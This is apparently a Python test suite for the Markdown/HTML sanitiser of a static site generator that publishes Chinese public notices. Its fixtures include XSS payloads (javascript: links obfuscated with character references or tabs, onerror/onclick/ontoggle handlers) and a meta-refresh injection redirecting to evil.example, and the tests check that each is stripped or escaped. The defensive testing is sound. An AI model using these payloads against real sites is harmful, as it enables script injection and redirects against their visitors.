def test_a_processing_instruction_is_read_as_the_comment_the_browser_makes_of_it():
    """The parser makes "<?php … ?>" (or a pasted "<?xml …?>") a comment whose tag
    selectolax gives as None: check stopped with a TypeError on the content page."""
    assert sanitize.elements("<p>a</p><?php echo 1 ?>") == [("p", ()), ("#comment", ())]
    assert sanitize.removed("<p>a</p><?xml version=\"1.0\"?>") == ["<!-- -->"]
    assert [tag for _depth, tag, _attrs in sanitize.nested("<p>a<?x?></p>")] == ["p", "-comment"]


def test_a_removed_link_is_named_at_its_own_line():
    """A reference definition written <javascript:…> was read twice (as a definition
    and as an autolink), and a target whose scheme is written with a character reference
    (javascript&#58;, &#106;avascript:) not at all by the line reading: the engine's
    count then matched the one to the other, and check named the definition's line twice
    and the link's line never."""
    body = ("[p](javascript&#58;alert(1))\n\n[q](&#106;avascript:alert(1))\n\n正文\n\n[y]\n\n"
            "[y]: <javascript:alert(1)>\n")
    assert sanitize.removed_from_markdown(body) == [(0, "<a href>"), (2, "<a href>"),
                                                    (8, "<a href>")]
    assert [n for n, _url in sanitize.read_markdown(body).urls] == [0, 2, 8]


# Lines of bodies put together at random for `test_code_lines_agree_with_the_engine`:
# raw HTML blocks opened and closed on their own lines or not, indented text, items,
# boxes, quotes, fences, comments.
_RANDOM_LINES = [
    "<div>", "</div>", "<table>", "</table>", "<p>a</p>", "", "", "", "    x", "        x",
    "- item", "1. item", "text", "\tx", "!!! note", "<!--", "-->", "<details>", "</details>",
    "  x", "<div>a</div>", "<pre>", "</pre>", "> q", "```", "<b>x</b>", "<span>", "</span>",
    ">     x", "    - x", "        - x", "    <div>", "    </div>", "<!-- x -->", "<script>",
    "</script>", "??? note", "    !!! note", "| a | b |", "|---|---|", "# h", "===", "   x",
    "\t- x", "  - x", "<hr>", "    1. x", "        x <b>y</b>", "    <img src=x onerror=y>"]


_STARTS_BLOCK = re.compile(r"[-*+>#<|`~!?=_]|\d+[.)]")


def test_code_lines_agree_with_the_engine():
    """Random bodies, each line read by `code_lines` and by the engine (the line's text
    replaced by a tag, which the engine escapes only in code): no line the engine passes
    as markup is read as code (it would go unscanned: `<div>`, a blank line, then
    `    <img onerror=…>` is an element on the page), and a line of plain text is read
    as the engine reads it (`<p>a</p>` then `    x` is code). A line starting as an item,
    a box or a tag may be read as text where the engine shows it as code: scanned."""
    rng = random.Random(20261207)
    checked = 0
    for _ in range(1500):
        lines = [rng.choice(_RANDOM_LINES) for _ in range(rng.randint(1, 8))]
        if sanitize.unclosed_fences("\n".join(lines)):
            continue
        fenced = sanitize.fenced_lines(lines)
        read = sanitize.code_lines(lines)
        for number, line in enumerate(lines):
            if not line.strip() or number in fenced:
                continue
            engine = _engine_shows_as_code(lines, number)
            checked += 1
            assert engine or not read[number], ("\n".join(lines), number)
            if not _STARTS_BLOCK.match(line.lstrip(" \t")):
                assert read[number] == engine, ("\n".join(lines), number)
    assert checked > 3000


@pytest.mark.parametrize("body,lines", [
    ("<div>\n<p>a</p>\n        x\n\n        <img src=x onerror=y>\n</div>\n", [4]),
    ("<div>\n\n    <img src=x onerror=y>\n\n</div>\n", [2]),
])
def test_an_indented_line_in_a_raw_html_block_is_scanned(body, lines):
    """Inside a raw HTML block the engine passes an indented line as markup: it was read
    as an indented code block and its element went unnamed."""
    assert [n for n, _what in sanitize.removed_from_markdown(body)] == lines
    assert not any(sanitize.code_lines(body.split("\n"))[n] for n in lines)


def test_hard_line_breaks_count_as_inline_marks():
    """A line ending in two spaces (or a tab, which the engine expands) is a <br> the
    engine's inline processing handles as one more item: a 1 MB body of such lines
    ("12 \\t" on each) took check 277 s and was not refused."""
    body = "正文\n\n" + "12 \t\n  " * 2100
    assert sanitize.dense_blocks(body) == [(2, 2100)]
    assert sanitize.dense_blocks("正文  \n" * 2000) == []
    assert sanitize.dense_blocks("正文  \n" * 2001) == [(0, 2001)]


@pytest.mark.parametrize("body,named", [
    ("[r]: javascript:alert(1)\n", []),  # a definition no link uses
    ("</script>\n<!--\n</table>", []),  # an inline "<!--" the engine escapes
    ('<a href="java\tscript:alert(1)">a</a>', []),  # the engine expands the tab: a path
    ('<a href="jav&#x09;ascript:alert(1)">a</a>', [(0, "<a href>")]),
    ("[a](javascript:alert(1))\n\n<!-- c -->\n\n[r]\n\n[r]: javascript:x",
     [(0, "<a href>"), (2, "<!-- -->"), (6, "<a href>")]),
])
def test_check_names_only_what_the_build_removes(body, named):
    """The line reading named markup the engine's HTML does not hold (an escaped comment
    opener, a tab-broken scheme, an unused definition): check refused a body the page
    printed as written."""
    assert sanitize.removed_from_markdown(body) == named


_FRAGMENTS = [
    "<div>", "</div>", "", "", "    <img src=x onerror=y>", "<img src=x onerror=y>", "- a",
    "    - b", "        <b onclick=x>c</b>", "<!--", "-->", "[a](javascript:x)", "[a][r]",
    "[r]: javascript:y", "[r]:", "    javascript:z", "```", "<script>", "</script>",
    '!!! note "<img src=x onerror=1>"', "    <iframe src=x></iframe>", "`<img onerror=x>`",
    "<details open ontoggle=x>", "</details>", "text &#106;avascript:x", "[b](&#106;avascript:x)",
    '<a href="java\tscript:x">a</a>', "<p>a</p>", "\t<svg onload=x>", "> <b onclick=x>q</b>",
    "<table>", "<tr><td onclick=x>a</td></tr>", "</table>"]


def test_check_names_markup_exactly_when_the_engine_html_loses_some():
    """Random bodies of hostile fragments: check names something when, and only when,
    the sanitiser removes something from the engine's HTML of the body."""
    rng = random.Random(5)
    tried = 0
    for _ in range(300):
        body = "\n".join(rng.choice(_FRAGMENTS) for _ in range(rng.randint(1, 10)))
        if sanitize.unclosed_fences(body):
            continue
        tried += 1
        lost = sanitize.removed(sanitize.markdown_html(body), sanitize.ANY_HOST)
        assert bool(sanitize.removed_from_markdown(body)) == bool(lost), body
    assert tried > 200


def _nh3_alone(html: str) -> str:
    """sanitize.clean as it was: nh3 given the HTML whole."""
    import nh3

    links = sanitize.Links("https://zhuanxiang.example.gov.cn/", {"zhuanxiang.example.gov.cn"})
    seen = []
    nh3_clean = nh3.clean

    def once(text, **kwargs):
        seen.append(kwargs)
        return text
    try:
        nh3.clean = once
        sanitize.clean("", links)
    finally:
        nh3.clean = nh3_clean
    return nh3_clean(html, **seen[0])


_RUN = "低保\xa0申请&amp;审核\xad过程" * 300  # longer than sanitize._TEXT_RUN
SPLIT_PAYLOADS = [
    _RUN,
    f"<p>{_RUN}</p><p>{_RUN}<b>{_RUN}</b></p>",
    f"<pre><code>{_RUN}&lt;b&gt;{_RUN}</code></pre>",
    f'<a title="{_RUN}" href="https://zhuanxiang.example.gov.cn/x">{_RUN}</a>',
    f'<a title="x>{_RUN}">{_RUN}</a>',  # a ">" inside a quoted value
    f"<!-- {_RUN} --> {_RUN} <!--> {_RUN} <!---> {_RUN}",
    f"<!-- {_RUN}",  # a comment left open takes the rest
    f"{_RUN}<textarea>{_RUN}</textarea>{_RUN}<script>{_RUN}</script>{_RUN}",
    f"{_RUN}<plaintext>{_RUN}<b>{_RUN}",
    f"{_RUN}<svg><![CDATA[{_RUN}]]></svg>{_RUN}<math>{_RUN}</math>",
    f"{_RUN}<? {_RUN} ?>{_RUN}<!DOCTYPE x>{_RUN}</ {_RUN}>{_RUN}< {_RUN}",
    f"<table><tr><td>{_RUN}</td>{_RUN}</tr></table>",
    f"<pre>{'甲' * 2047}\r\n{'乙' * 2047}\r\n{_RUN}</pre>",  # a break of two characters
    f"{_RUN}<img src=x alt='{_RUN}' onerror=alert(1)>{_RUN}<b {_RUN}",
    # a quote opens a value only after "=": the tag ends at the first ">"
    f"<a b'c>{_RUN}<abbr title='zz>{_RUN}'>{_RUN}</abbr></a>",
    f"<a b=x\"y>{_RUN}<abbr title=\"z>{_RUN}\">{_RUN}</abbr></a>",
    f"<a =\"x>{_RUN}\">{_RUN}</a><b c = 'd>{_RUN}' e=f/>{_RUN}",
    "&" + "a" * 5000 + "&#" + "1" * 5000 + "&#x" + "f" * 5000 + ";" + _RUN,
]


@pytest.mark.parametrize("html", SPLIT_PAYLOADS)
def test_cleaning_in_pieces_gives_exactly_what_cleaning_whole_gave(html):
    """nh3 takes time growing with the square of one text's length once it holds &, a
    no-break space or a soft hyphen (5.6 s for a 1.9 MB paragraph): a long text is
    handed to it split by comments, which it strips. The page must not change by a
    byte, whatever the HTML around the text."""
    links = sanitize.Links("https://zhuanxiang.example.gov.cn/", {"zhuanxiang.example.gov.cn"})
    assert sanitize.clean(html, links) == _nh3_alone(html)


def test_a_long_text_reaches_nh3_in_pieces():
    html = f"<p>{_RUN * 10}</p>"
    split = sanitize._text_split(html)
    pieces = split.split(sanitize._SPLIT)
    assert len(pieces) >= len(_RUN * 10) // sanitize._TEXT_RUN
    assert max(map(len, pieces)) < sanitize._TEXT_RUN + 16
    assert "".join(pieces) == html
    # where the tokenizer's state is not known, nothing is split
    for raw in (f"<textarea>{_RUN}", f"<svg>{_RUN}", f"<b title='{_RUN}", f"<!--{_RUN}"):
        assert sanitize._text_split(raw) == raw


def test_link_targets_are_judged_by_nh3_all_at_once(monkeypatch):
    """A body of 37,000 links called nh3 once for each (2 s): one call now for all of
    them, each target judged as it was alone."""
    import html
    import nh3

    links = sanitize.Links("https://zhuanxiang.example.gov.cn/", {"zhuanxiang.example.gov.cn"})
    urls = ["javascript:alert(1)", "https://zhuanxiang.example.gov.cn/x", "https://evil.example/",
            "../report.md", "java\tscript:x", 'a"><script>', "http://x<y", "", "mailto:a@b.c",
            "data:text/html,x", "https://zhuanxiang.example.gov.cn/x", "https://zhuanxiang."
            "example.gov.cn\\@evil.example/", "//evil.example", "JAVASCRIPT:x"] * 50
    alone = ["href=" not in sanitize.clean(
        '<a href="' + html.escape(url, quote=True) + '">x</a>', links) for url in urls]
    calls = []
    real = nh3.clean
    monkeypatch.setattr(nh3, "clean", lambda *a, **k: calls.append(1) or real(*a, **k))
    assert sanitize._urls_removed(urls, links) == alone
    assert alone.count(True) == 8 * 50 and len(calls) == 1


def test_a_body_with_too_many_fenced_blocks_is_refused_and_not_converted(monkeypatch):
    """The engine's fenced_code extension rewrites the whole body for each block: 60,000
    small blocks in 1 MB took over 80 s in check and again in the build. Past
    MAX_FENCED_BLOCKS the body is refused at the first block over, and never converted."""
    from generator import privacy

    block = "```\n<b>&amp;\n```\n"
    limit = sanitize.MAX_FENCED_BLOCKS
    scanner = privacy.Scanner(["12388"])
    at_limit = "正文\n\n" + block * limit
    assert privacy.scan_markdown(scanner, at_limit, "content/notices/x.md", 10, "正文") == []
    over = at_limit + "中间一行\n" + block * 5
    problems = privacy.scan_markdown(scanner, over, "content/notices/x.md", 10, "正文")
    assert [(p.code, p.line) for p in problems] == [("too-many-code-blocks",
                                                      10 + 2 + 3 * limit + 1)]
    assert "共205个" in problems[0].message and "超过了200个" in problems[0].message
    converted = []
    monkeypatch.setattr(sanitize, "_engine", lambda: converted.append(1))
    sanitize.markdown_html.cache_clear()
    assert sanitize.markdown_html(over).startswith("<p>正文\n\n```\n&lt;b&gt;&amp;amp;")
    assert converted == []


def test_the_export_hands_the_stock_theme_its_descriptions_as_html_text(tmp_path):
    """The exported tree is built with the engine's stock templates, which print a page's
    front matter `description` into <meta content="…"> as it stands (Zensical 0.0.73
    does not autoescape: a description ending `" http-equiv="refresh` redirected the
    page). Each description goes out as the mkdocs build's theme prints it: one line,
    HTML-escaped, none that reads as a refresh target."""
    from mkdocs.utils.meta import get_data

    from generator.pipeline import export
    from generator.synth import engine_config

    project = make_project(tmp_path / "c")
    engine_config(ROOT, project)
    site_yml = project / "site_config/site.yml"
    site_yml.write_text(site_yml.read_text("utf-8").replace(
        "description: 公开专项治理的承诺履行", "description: 公开专项治理的\"承诺\"履行"), "utf-8")
    (project / "content/about.md").write_text(
        "---\ntitle: 关于本站\ndescription: '本站说明 \"甲\" & 乙'\n---\n\n# 关于本站\n\n说明。\n",
        "utf-8")
    (project / "content/refresh.md").write_text(
        "---\ntitle: 说明\ndescription: '0;url=https://evil.example/\" http-equiv=\"refresh'\n"
        "---\n\n# 说明\n\n说明。\n", "utf-8")
    export(project, tmp_path / "md", NOW)
    docs = tmp_path / "md" / "docs"
    _, about = get_data((docs / "about.md").read_text("utf-8"))
    assert about == {"title": "关于本站", "description": "本站说明 &quot;甲&quot; &amp; 乙"}
    body, refresh = get_data((docs / "refresh.md").read_text("utf-8"))
    assert refresh == {"title": "说明"} and body.startswith("# 说明\n")
    described = 0
    for page in docs.rglob("*.md"):
        meta = get_data(page.read_text("utf-8"))[1]
        if meta.get("description"):
            described += 1
            assert not re.search(r"[<>\"']|&(?!(amp|lt|gt|quot|#x27);)", meta["description"]), page
    assert described >= 5  # the minimal project's record pages, and about.md
    # and the site's, which the theme prints on every page without one of its own
    import yaml
    engine = yaml.unsafe_load((tmp_path / "md/mkdocs.yml").read_text("utf-8"))
    assert engine["site_description"] == ("公开专项治理的&quot;承诺&quot;履行、典型案例、整改台账"
                                          "和举报渠道，接受群众监督。")


def test_the_exported_tree_built_by_zensical_has_the_descriptions_as_written(tmp_path):
    """What the export is for, end to end: Zensical builds the exported tree with its stock
    templates, and a description with quotes and an ampersand is the one <meta> attribute
    it was written as (printed as it stood, `"` ended the attribute and the rest became
    attributes of the tag, `http-equiv` among them)."""
    import os

    from selectolax.lexbor import LexborHTMLParser

    from generator.pipeline import export
    from generator.synth import engine_config

    zensical = zensical_or_skip()
    project = make_project(tmp_path / "c")
    engine_config(ROOT, project)
    (project / "content/about.md").write_text(
        "---\ntitle: 关于本站\ndescription: '本站说明 \"甲\" http-equiv=\"refresh\" & 乙'\n"
        "---\n\n# 关于本站\n\n说明。\n", "utf-8")
    export(project, tmp_path / "md", NOW)
    result = subprocess.run([zensical, "build"], cwd=tmp_path / "md", capture_output=True,
                            text=True, env=dict(os.environ, SOURCE_DATE_EPOCH=NOW_EPOCH))
    assert result.returncode == 0, result.stdout + result.stderr
    tree = LexborHTMLParser((tmp_path / "md/site/about/index.html").read_text("utf-8"))
    metas = [dict(m.attributes) for m in tree.css("meta")]
    assert [m for m in metas if m.get("name") == "description"] == [
        {"name": "description", "content": '本站说明 "甲" http-equiv="refresh" & 乙'}]
    assert not [m for m in metas if "http-equiv" in m]


def test_a_code_block_with_a_language_is_published_and_a_hostile_one_refused(tmp_path):
    """fenced_code writes ```text as <pre><code class="language-text">: the sanitiser took
    the class out, so check refused the block as unsafe-markup though nothing in it is
    (the block without a language passed). The class stays as the engine writes it, on
    <code> alone; a class or id staff add (`{.x #__config}`, raw <code class=… onclick>)
    is still refused, and the built page, as a browser parses it, has nothing else."""
    from selectolax.lexbor import LexborHTMLParser

    from conftest import hook_build
    from generator.synth import engine_config

    project = make_project(tmp_path / "c")
    engine_config(ROOT, project)
    notice = project / "content/notices/2026-05-notice.md"
    text = notice.read_text("utf-8")
    notice.write_text(text + "\n```text\n依据条款第三条\n```\n\n```yaml\n单位: 东城镇\n```\n\n"
                      "```c++\n甲\n```\n\n```{.x onclick=alert(1)}\n乙\n```\n\n"
                      "见```\"><img src=x onerror=alert(1)>```。\n", "utf-8")  # (no fence)
    _data, report = validate(project, NOW)
    assert report.flatten() == []
    site = hook_build(project, tmp_path / "site")  # (its audit passed)
    tree = LexborHTMLParser((site / "notices/2026-05-notice/index.html").read_text("utf-8"))
    # what a shared link shows reads the blocks' text, not their fences' language words
    shared = tree.css_first('meta[name="description"]').attributes["content"]
    assert "依据条款第三条" in shared and not re.search(r"text|yaml|c\+\+|\{", shared), shared
    body = tree.css_first("article")
    assert [(c.attributes, c.text()) for c in body.css("pre > code")] == [
        ({"class": "language-text"}, "依据条款第三条\n"), ({"class": "language-yaml"}, "单位: 东城镇\n"),
        ({"class": "language-c++"}, "甲\n"), ({"class": "language-x"}, "乙\n")]
    assert [c.text() for c in body.css("p > code")] == ['"><img src=x onerror=alert(1)>']
    assert not body.css("img")
    assert not [(n.tag, k) for n in body.traverse() for k in (n.attributes or {})
                if k.startswith("on")]
    lines = len(text.split("\n"))  # the line the appended body starts on
    notice.write_text(text + "\n``` {.x #__config}\n甲\n```\n\n"
                      "<code class=\"language-x\" onclick=\"alert(1)\">乙</code>\n\n"
                      "<code class='language-x\"><img src=x onerror=alert(1)>'>丙</code>\n\n"
                      "<span class=\"language-x\">丁</span>\n", "utf-8")
    _data, report = validate(project, NOW)
    assert report.flatten() == [
        ("content/notices/2026-05-notice.md", lines + 1, "unsafe-markup"),
        ("content/notices/2026-05-notice.md", lines + 5, "unsafe-markup"),
        ("content/notices/2026-05-notice.md", lines + 7, "unsafe-markup"),
        ("content/notices/2026-05-notice.md", lines + 9, "unsafe-markup")]
